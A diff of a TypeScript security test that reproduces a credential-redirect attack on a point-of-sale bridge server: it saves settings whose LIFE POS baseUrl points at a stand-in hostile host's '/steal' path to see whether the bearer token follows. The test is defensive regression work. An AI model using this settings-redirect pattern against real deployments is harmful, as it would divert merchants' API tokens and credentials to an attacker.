@@ -6,6 +6,8 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { startBridgeServer, type BridgeServer } from '../../main/server/bridgeServer';
 import { createServices, type Services } from '../../main/services';
+import type { SettingsView } from '../../preload/contract';
+import { settingsInputFrom } from './bridgeFixture';
 
 /**
  * Issue 16 point 1, the attack itself with the real services outside training mode: a caller holding the
@@ -74,19 +76,15 @@ describe('credential redirect through settings.save', () => {
     expect(real.seen.find((s) => s.path.startsWith('/lifepos'))?.authorization).toBe(`Bearer ${LIFE_POS_TOKEN}`);
 
     // The attack: a new LIFE POS address, the token left out, through the bridge.
-    const stored = (await (await fetch(`${bridge.url}/api/call/settings.get`, { method: 'POST', body: '{}', headers: { 'x-cashier-token': TOKEN } })).json()) as { value: Record<string, unknown> & { lifepos: Record<string, unknown>; fiscal: Record<string, unknown>; lifepay: Record<string, unknown>; regos: Record<string, unknown> } };
-    const { secretStorage: _where, ...input } = stored.value;
-    const strip = <T extends Record<string, unknown>>(o: T, key: string) => Object.fromEntries(Object.entries(o).filter(([k]) => k !== key));
+    const stored = (await (await fetch(`${bridge.url}/api/call/settings.get`, { method: 'POST', body: '{}', headers: { 'x-cashier-token': TOKEN } })).json()) as { value: SettingsView };
+    const input = settingsInputFrom(stored.value);
     const hostileProbe = hostile.next();
     const res = await fetch(`${bridge.url}/api/call/settings.save`, {
       method: 'POST',
       headers: { 'x-cashier-token': TOKEN, 'content-type': 'application/json' },
       body: JSON.stringify({
         ...input,
-        fiscal: strip(input.fiscal, 'operatorPassword'),
-        lifepay: strip(input.lifepay, 'apiKey'),
-        regos: strip(input.regos, 'password'),
-        lifepos: { ...strip(input.lifepos, 'token'), baseUrl: `${hostile.url}/steal` },
+        lifepos: { ...input.lifepos, baseUrl: `${hostile.url}/steal` },
       }),
     });
     expect(((await res.json()) as { ok: boolean }).ok).toBe(true);
